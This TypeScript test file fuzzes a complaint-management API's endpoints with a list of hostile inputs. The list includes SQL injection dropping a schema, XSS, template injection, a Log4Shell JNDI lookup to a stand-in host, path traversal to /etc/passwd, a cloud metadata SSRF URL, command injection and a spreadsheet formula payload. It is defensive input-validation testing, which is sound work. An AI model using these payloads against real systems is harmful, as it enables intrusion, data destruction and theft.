import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { inHandling, must, register, told } from '../../../../test/fixtures/cases';
import { type Suaka, startSuaka } from '../../../../test/fixtures/suaka';
import { bodySchema, type Json, objectsIn, put, type Spec, textsIn, validBody } from './openapi-bodies';

const document = JSON.parse(readFileSync(join(__dirname, '../../openapi.json'), 'utf8')) as Spec;
const writes = Object.keys(document.paths).filter((path) => bodySchema(document, path));

const HOSTILE = [
  `'; drop schema read cascade; --`,
  `" or ""="`,
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.test/a}',
  '../../../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '%00%0d%0aset-cookie: a=b',
  '\\x27\\u0027 && sleep 9',
  '=cmd|calc!A1',
  '__proto__',
  '\u202Etxt.exe',
  '%s%n%d',
];

let suaka: Suaka;
beforeAll(async () => {
  // The guesses at sign-in would soon be too many.
  suaka = await startSuaka({
    SUAKA_ACCOUNT_REQUESTS_PER_MINUTE: '1000000',
    SUAKA_ADDRESS_REQUESTS_PER_MINUTE: '1000000',
  });
});
afterAll(() => suaka.stop());

const send = async (path: string, body: Json, id = randomUUID() as string) =>
  suaka.admin.post(path.replace('/api', '').replace('{id}', id), body);

test('every write that takes a body is tried', () => {
  expect(writes.length).toBeGreaterThan(20);
});

describe.each(writes)('POST %s', (path) => {
  const body = validBody(document, path);

  test('takes a hostile text in no field for anything but a text', async () => {
    for (const field of textsIn(body)) {
      for (const text of HOSTILE) {
        const { status, body: said } = await send(path, put(body, field, text));
        expect([field, text, status < 500]).toEqual([field, text, true]);
        if (status === 400) expect(JSON.stringify(said)).not.toContain(JSON.stringify(text).slice(1, -1));
      }
    }
  });

  test('refuses what it does not know, at every depth', async () => {
    for (const where of objectsIn(body)) {
      for (const unknown of ['roles', 'actor', 'at', 'staffId', 'hash', 'commandId', 'revision', '$where']) {
        const given = where.reduce((part, step) => (part as Record<string, Json>)[step]!, body);
        if (unknown in (given as object)) continue;
        const answer = await send(path, put(body, [...where, unknown], 'x'));
        expect([where, unknown, answer.status, answer.body.reason]).toEqual([
          where,
          unknown,
          400,
          'invalid_request',
        ]);
        expect((answer.body.errors as { field: string }[]).map(({ field }) => field)).toContain(
          [...where, unknown].join('.'),
        );
      }
    }
  });
});

test('what is told comes back as it was told, and nothing else has changed', async () => {
  const before = (await suaka.admin.get<unknown[]>('/staff')).body.length;
  for (const text of HOSTILE) {
    const worker = { name: text, country: 'MY', placement: 'unknown', employer: text, village: text };
    const complainant = { kind: 'family', name: text, address: text };
    const { complaintId } = (await must(register(suaka.admin, { worker, complainant, narrative: text })))
      .body;
    await must(suaka.admin.post(`/complaints/${complaintId}/note`, { text }));
    const { body } = await suaka.admin.get<{ state: Record<string, unknown> }>(`/complaints/${complaintId}`);
    expect(body.state).toMatchObject({ worker, complainant, narrative: text, notes: [{ text }] });
    const search = await suaka.admin.get<{ items: object[] }>(
      `/complaints?search=${encodeURIComponent(text)}`,
    );
    expect([200, 400]).toContain(search.status);
  }
  expect((await suaka.admin.get<unknown[]>('/staff')).body).toHaveLength(before);
  expect((await register(suaka.admin)).status).toBe(201);
});

test('hostile queries and ids are texts too', async () => {
  const id = await inHandling(suaka.admin, suaka.admin, told());
  for (const text of HOSTILE) {
    const value = encodeURIComponent(text);
    for (const path of [
      ...['search', 'cursor', 'officeId', 'phase', 'limit', 'handlerId', 'x'].map(
        (name) => `/complaints?${name}=${value}`,
      ),
      `/contacts?search=${value}`,
      `/sla-watch?status=${value}`,
      `/complaints/${value}`,
      `/complaints/${id}/${value}`,
      `/contacts/${value}`,
    ]) {
      const answer = await suaka.admin.get(path);
      expect([path, answer.status < 500]).toEqual([path, true]);
    }
    const headers = { 'suaka-after': text.replace(/[^\x20-\x7e]/g, '') };
    expect((await suaka.admin.send('GET', '/complaints', { headers })).status).toBe(400);
  }
});

test('no field of any body is an address that the server would go to', () => {
  // What the api itself answers with is for the browser: the provider's page, and what an authenticator app reads.
  const fields = Object.entries(document.components.schemas)
    .filter(([schema]) => !['OpenidBegun', 'SetUpShown'].includes(schema))
    .flatMap(([, { properties = {} }]) => Object.entries(properties));
  const addresses = fields.filter(
    ([name, { format = '' }]) =>
      /ur[il]|href|link|webhook|callback|host|endpoint/i.test(name) || /ur[il]/.test(format),
  );
  expect(addresses.map(([name]) => name)).toEqual([]);
});
